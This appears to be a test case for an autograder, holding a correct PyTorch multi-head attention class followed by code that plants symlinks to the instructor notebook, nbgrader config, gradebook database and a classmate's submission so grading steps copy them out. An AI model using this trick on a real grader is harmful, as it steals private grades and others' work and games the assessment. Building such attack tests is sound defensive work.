# expect: shapes=1 weight_count=1 out_is_proj=2 attention_weights=2 causal=1
# why: attack: a right answer that leaves symlinks in its working folder (once nbgrader's autograded/<student>/<lesson>/) to the source notebook, the config, the gradebook and a classmate's submission, for set_permissions to chmod and generate_feedback to copy
class MultiHead(nn.Module):
    def __init__(self):
        super().__init__()
        self.heads = nn.ModuleList([Head(16) for _ in range(2)])
        self.proj = nn.Linear(n_embd, n_embd)

    def forward(self, x):
        return self.proj(torch.cat([head(x) for head in self.heads], dim=-1))

import os
_here = os.getcwd()
for _name, _target in (("source.html", "../../../source/multihead/multihead.ipynb"),
                       ("config.html", "../../../nbgrader_config.py"),
                       ("gradebook.html", "../../../gradebook.db"),
                       ("classmate.html", "../../01_right_comprehension/multihead/multihead.ipynb")):
    try:
        os.symlink(_target, os.path.join(_here, _name))
    except OSError:
        pass
